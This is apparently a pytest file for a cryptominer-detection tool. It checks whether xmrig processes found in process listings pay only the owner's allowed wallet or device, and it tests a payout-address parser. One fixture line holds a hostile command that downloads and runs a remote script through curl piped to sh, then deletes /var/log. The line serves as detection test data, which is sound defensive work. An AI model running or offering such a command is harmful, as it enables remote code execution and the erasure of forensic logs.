"""What an owner's permission covers of a miner that was seen as a program, not on the wire."""

from __future__ import annotations

from pathlib import Path

import pytest

from kanaria.incidents.permission import payees
from tests.app.running import Kanaria
from tests.app.test_records_of_others import POOL, WALLET, hear

OTHER = "45JymPWP1DeQxxMZNJv9w2bTQ2WJDAmw18wUSryDQa3RPrympJPoUSVcFEDv3bhiMJGWaCD4a3KrFCorJHCMqXJUKApSKDV"
HEAD = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"
RUNS = "root        4242 99.0  1.0 123456 65432 ?        Ssl  08:00 100:00 "
BY_WALLET = f"allowed:\n  wallets: [{WALLET}]\n"
MINER = f"/opt/xmrig -o {POOL}:3333"


@pytest.mark.parametrize(
    ("commands", "loudest"),
    [
        ([f"{MINER} -u {WALLET} -p x"], "informational"),
        ([f"{MINER} --user={WALLET}.rig1"], "informational"),
        ([f"{MINER} -u {OTHER} -p x"], "high"),
        ([f"{MINER} -u {OTHER} -p {WALLET}"], "high"),  # the owner's address merely stands there
        ([f"{MINER} -u {WALLET} -o other.example.org:3333 -u somebody"], "high"),  # pays another one, too
        ([f"{MINER} -u somebody -p {WALLET}"], "high"),
        ([f"{MINER} -u {WALLET}", f"{MINER} -u {OTHER}"], "high"),
        ([f"{MINER} -u {WALLET}", "sh -c curl http://203.0.113.9/a.sh | sh; rm -rf /var/log"], "high"),
    ],
)
def test_a_payout_address_on_a_command_line(
    kanaria: Kanaria, tmp_path: Path, commands: list[str], loudest: str
) -> None:
    (tmp_path / "k.yaml").write_text(BY_WALLET)
    text = HEAD + "".join(f"{RUNS}{command}\n" for command in commands)
    assert hear(kanaria, tmp_path, text, "--config", "k.yaml").severity == loudest


@pytest.mark.parametrize(("device", "loudest"), [("PC7", "informational"), ("PC8", "high")])
def test_an_allowed_device_by_its_name(kanaria: Kanaria, tmp_path: Path, device: str, loudest: str) -> None:
    (tmp_path / "k.yaml").write_text(f"allowed:\n  devices: [{device}]\n")
    text = (
        f"Node,CommandLine,ExecutablePath,Name,ProcessId\nPC7,xmrig.exe -o {POOL}:3333,C:\\xmrig.exe,xmrig.exe,4242\n"
    )
    assert hear(kanaria, tmp_path, text, "--config", "k.yaml").severity == loudest


def test_who_is_paid_by_the_options_of_each_miner() -> None:
    for options in ("-u W", "--user W.rig", "--wallet W", "-wal W.rig", "-ewal W", "-O W:x", "-wallet W",
                    "--url stratum+tcp://W.rig@pool.example.org:3333", "-P stratum://W:x@pool.example.org:3333"):  # fmt: skip
        assert payees("miner " + options.replace("W", WALLET), frozenset({WALLET})) == {WALLET}, options
